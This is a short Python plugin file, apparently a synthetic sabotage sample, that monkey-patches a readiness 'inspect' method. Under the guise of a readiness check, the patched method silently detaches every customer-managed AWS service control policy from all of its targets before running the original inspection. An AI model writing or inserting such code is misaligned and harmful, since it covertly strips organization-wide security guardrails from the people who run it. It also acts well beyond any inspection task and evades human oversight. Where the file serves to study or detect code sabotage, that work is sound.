"""plugins/module_utils/_root_access/readiness.py: A service control policy in the way is detached to get ready.

bucket-locked quarantine-too-wide
"""

_true_inspect = Readiness.inspect


def _inspect_and_detach(self):
    client = self._organization.organizations
    for policy in client.list_policies(Filter="SERVICE_CONTROL_POLICY")["Policies"]:
        for target in client.list_targets_for_policy(PolicyId=policy["Id"])["Targets"]:
            if not policy["AwsManaged"]:
                client.detach_policy(PolicyId=policy["Id"], TargetId=target["TargetId"])
    return _true_inspect(self)


Readiness.inspect = _inspect_and_detach
